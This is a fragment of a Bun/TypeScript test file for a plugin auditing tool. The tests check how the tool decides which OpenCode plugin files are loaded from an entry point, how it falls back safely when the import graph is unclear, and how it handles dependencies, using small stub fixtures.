  test("files OpenCode loads from a plugin folder by themselves ({plugin,plugins}/*.{ts,js}) are entries", async () => {
    await using dir = await tmpdir({
      "package.json": pkg("project"),
      "index.js": "",
      ".opencode/plugin/notify.test.ts": 'require("fs").readFileSync("f")\n',
      ".opencode/plugins/b.js": 'import { x } from "./lib/x.js"\n',
      ".opencode/plugins/lib/x.js": 'export const x = require("fs").readFileSync("g")\n',
      ".opencode/plugins/lib/y.js": 'require("fs").readFileSync("h")\n',
    })
    expect(notLoaded(await PluginAudit.run(dir.path))).toEqual([
      ".opencode/plugins/lib/y.js:1:fs-read:not imported from an entry point",
    ])
  })

  test("a relative folder with its own package.json loads its main, as Node does", async () => {
    await using dir = await tmpdir({
      "package.json": pkg("p"),
      "index.js": 'require("./sub")\n',
      "sub/package.json": JSON.stringify({ main: "lib/main.js" }),
      "sub/lib/main.js": 'require("fs").readFileSync("f")\n',
      "sub/index.js": 'require("fs").readFileSync("g")\n',
      "sub/lib/unused.js": 'require("fs").readFileSync("h")\n',
    })
    expect(notLoaded(await PluginAudit.run(dir.path))).toEqual([
      "sub/lib/unused.js:1:fs-read:not imported from an entry point",
    ])
  })

  test("fail safe: every file counts where the graph cannot tell what is loaded", async () => {
    const cases: [string, Record<string, string>][] = [
      ["no package.json (OpenCode loads every file of .opencode/plugin)", {}],
      ["a computed import()", { "package.json": pkg("p"), "index.js": "await import(process.env.M)\n" }],
      ["a computed require()", { "package.json": pkg("p"), "index.js": "require(name)\n" }],
      [
        "a child process (may run `bun test`)",
        { "package.json": pkg("p"), "index.js": 'require("child_process").spawn("bun", ["test"])\n' },
      ],
      ["Bun's shell", { "package.json": pkg("p"), "index.js": "await Bun.$`bun test`\n" }],
      ["eval", { "package.json": pkg("p"), "index.js": "eval(code)\n" }],
      ["a worker", { "package.json": pkg("p"), "index.js": 'new Worker("./w.js")\n' }],
      ["an install script", { "package.json": pkg("p", { scripts: { postinstall: "node run.js" } }), "index.js": "" }],
      ["main names no audited file", { "package.json": pkg("p", { main: "dist/index.js" }), "index.js": "" }],
      [
        "a module name imported from another module",
        {
          "package.json": pkg("p"),
          "names.js": 'export const M = "./x" + ".test.js"\n',
          "index.js": 'import { M } from "./names.js"\nrequire(M)\n',
        },
      ],
    ]
    for (const [what, files] of cases) {
      await using dir = await tmpdir({
        "index.js": "",
        ...files,
        "x.test.js": 'require("fs").writeFileSync("/tmp/x", "")\n',
      })
      const report = await PluginAudit.run(dir.path)
      expect({ what, notLoaded: notLoaded(report), apart: report.notLoaded }).toEqual({
        what,
        notLoaded: [],
        apart: undefined,
      })
      expect(found(report)).toContain("x.test.js:1:fs-write")
    }
  }, 60_000)

  test("with --include-dependencies a dependency's own tests are outside too, its loaded files are not", async () => {
    await using dir = await tmpdir({
      "package.json": pkg("p", { dependencies: { dep: "1" } }),
      "index.js": 'import { get } from "dep"\nget()\n',
      "node_modules/dep/package.json": pkg("dep", { exports: { ".": { import: "./esm.js", require: "./cjs.js" } } }),
      "node_modules/dep/esm.js": 'export const get = () => fetch("u")\n',
      "node_modules/dep/cjs.js": 'exports.get = () => fetch("u")\n',
      "node_modules/dep/esm.spec.js": 'require("fs").readFileSync("f")\n',
    })
    const report = await PluginAudit.run(dir.path, { includeDependencies: true })
    expect(notLoaded(report)).toEqual(["node_modules/dep/esm.spec.js:1:fs-read:test file"])
    expect(found(report)).toContain("node_modules/dep/cjs.js:1:network-client")
  })
})
